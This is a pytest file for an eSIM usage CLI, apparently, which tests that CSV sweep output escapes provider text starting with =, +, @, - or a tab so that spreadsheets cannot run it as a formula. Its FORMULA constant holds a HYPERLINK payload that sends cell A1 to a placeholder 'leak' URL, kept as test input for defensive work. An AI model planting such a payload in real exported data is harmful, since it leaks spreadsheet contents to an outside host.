"""CSV output opened in a spreadsheet: text the provider sent (a status it does not document, an
error message) never reaches a cell as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from esim_async.cli import _cells
from esim_async.testing import Emulator, ServerLimits
from tests.cli.test_attack_sweep_cli import ENV, FAST, Served, run

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'


@pytest.fixture
def served() -> Iterator[Emulator]:
    with Served(4, ServerLimits.unlimited()) as emu:
        yield emu


def swept_rows(tmp_path: Path, served: Emulator, ids: list[str]) -> dict[str, dict[str, str]]:
    """``esim-async sweep --format csv`` over ``ids``: the rows written, by ICCID."""
    listing = tmp_path / "fleet.txt"
    listing.write_text("\n".join(ids) + "\n")
    out = tmp_path / "usage.csv"
    code, _, err = run(
        "sweep", "--iccids", str(listing), "--base-url", served.url, *FAST, "--quiet",
        "--format", "csv", "--out", str(out), env=ENV,
    )  # fmt: skip
    assert code == 0, err
    return {row["iccid"]: row for row in csv.DictReader(io.StringIO(out.read_text()))}


def test_text_that_would_be_a_formula_is_written_as_text(tmp_path: Path, served: Emulator) -> None:
    ids = served.fleet.iccids()
    served.set_usage(ids[0], status=FORMULA)
    served.set_usage(ids[1], status="@SUM(1+1)")
    rows = swept_rows(tmp_path, served, ids[:3])
    assert set(rows) == set(ids[:3])
    assert rows[ids[0]]["status"] == "'" + FORMULA
    assert rows[ids[1]]["status"] == "'@SUM(1+1)"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
    # Numbers stay numbers.
    assert rows[ids[2]]["remaining"].lstrip("-").replace(".", "").isdigit()


def test_text_beginning_with_a_minus_sign_is_written_as_text(
    tmp_path: Path, served: Emulator
) -> None:
    ids = served.fleet.iccids()
    served.set_usage(ids[0], status="-2+3")
    served.set_usage(ids[1], status="\t=1+1")
    rows = swept_rows(tmp_path, served, ids[:2])
    assert rows[ids[0]]["status"] == "'-2+3"
    assert rows[ids[1]]["status"] == "'\t=1+1"


def test_an_error_message_beginning_with_a_minus_sign_is_written_as_text() -> None:
    cells = _cells({"iccid": "8944000000000000001", "error_message": "-1+1 quota", "total": -1})
    assert cells["error_message"] == "'-1+1 quota"
    assert cells["total"] == -1  # a number stays a number
